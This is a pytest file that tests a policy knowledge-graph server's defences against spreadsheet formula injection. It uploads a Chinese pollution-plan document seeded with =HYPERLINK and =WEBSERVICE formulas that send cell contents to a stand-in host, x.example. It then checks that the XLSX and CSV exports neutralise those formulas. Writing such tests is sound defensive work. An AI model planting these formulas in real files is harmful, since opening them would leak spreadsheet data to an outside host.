"""Formula injection, on a live server: a document whose title and measures begin with ``=`` is uploaded; the
agency's workbook holds them as text cells (no formula in the file), and SPARQL CSV results, the page's CSV
download (/sparql?format=csv), escape every cell that begins with = + - @ or a tab."""
from __future__ import annotations

import csv
import io
import re
import zipfile

import httpx
import openpyxl
import pytest

from .conftest import KEY

WEBSERVICE = '=WEBSERVICE("http://x.example/?"&C3)'
DOC = (f'=HYPERLINK("http://x.example/?"&B3,"点击")平湖市2025年大气污染防治工作要点\n一、深入打好蓝天保卫战\n'
       f"{WEBSERVICE}到2025年底前，完成全市加油站油气回收在线监控系统安装。（市生态环境局牵头）\n"
       "2.开展港口岸电设施建设，提高岸电使用率。（市交通运输局牵头，市发改委配合）\n")
NAME = "注入测试.txt"


@pytest.fixture(scope="module")
def injected(live):
    r = httpx.post(live.url + "/api/documents", files={"file": (NAME, DOC.encode())}, headers=KEY, timeout=120)
    assert r.status_code == 201, r.text
    yield live
    httpx.delete(live.url + f"/api/documents/{NAME}", headers=KEY, timeout=120)


def test_the_workbook_holds_text_never_a_formula(injected):
    # 市生态环境局 names a bureau of every place: the injected plan's is 平湖市's
    tasks = httpx.get(injected.url + "/api/agencies/市生态环境局/measures", params={"place": "平湖市"}, timeout=60).json()
    texts = [t["text"] for t in tasks["lead"] if t["doc"] == NAME]
    assert any(t.startswith("=WEBSERVICE") for t in texts), texts  # the extractor kept what the file says
    r = httpx.get(injected.url + "/api/agencies/市生态环境局/tasks.xlsx", params={"place": "平湖市"}, timeout=60)
    assert r.status_code == 200
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no cell of the file is a formula
    ws = openpyxl.load_workbook(io.BytesIO(r.content)).active
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(c.value.startswith("=WEBSERVICE") for c in cells)
    assert {c.data_type for c in cells} == {"s"}


def sparql_csv(url: str, query: str) -> list[list[str]]:
    r = httpx.get(url + "/sparql", params={"query": query, "format": "csv"}, timeout=60)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(r.text)))


def test_sparql_csv_escapes_formula_cells(injected):
    rows = sparql_csv(injected.url, 'SELECT ?a ?b ?c ?d ?e ?n ?m ?x WHERE { VALUES (?a ?b ?c ?d ?e ?n ?m ?x) '
                                    '{ ("=1+2" "+SUM(A1)" "-2+3" "@cmd" "\\tx" "-3" -4.5 "a=b") } }')
    assert rows == [["a", "b", "c", "d", "e", "n", "m", "x"],
                    ["'=1+2", "'+SUM(A1)", "'-2+3", "'@cmd", "'\tx", "-3", "-4.5", "a=b"]]


def test_the_page_csv_download_of_measures_escapes_them(injected):
    """What the SPARQL page's 下载 CSV link fetches for a query over the uploaded measures."""
    query = ("PREFIX pkg: <https://w3id.org/policykg/ns#>\nSELECT ?text WHERE { ?m a pkg:Measure ; ?p ?text "
             "FILTER(isLiteral(?text) && STRSTARTS(STR(?text), \"=WEBSERVICE\")) }")
    rows = sparql_csv(injected.url, query)
    assert len(rows) > 1 and all(re.match(r"'=", r[0]) for r in rows[1:]), rows


def test_the_neo4j_csv_export_escapes_them(injected):
    r = httpx.get(injected.url + "/api/export", params={"format": "neo4j-csv"}, timeout=120)
    assert r.status_code == 200
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        cells = [cell for name in z.namelist() if name.endswith(".csv")
                 for row in csv.reader(io.StringIO(z.read(name).decode("utf-8"))) for cell in row]
    assert any(c.startswith("'=WEBSERVICE") for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "@", "\t")]
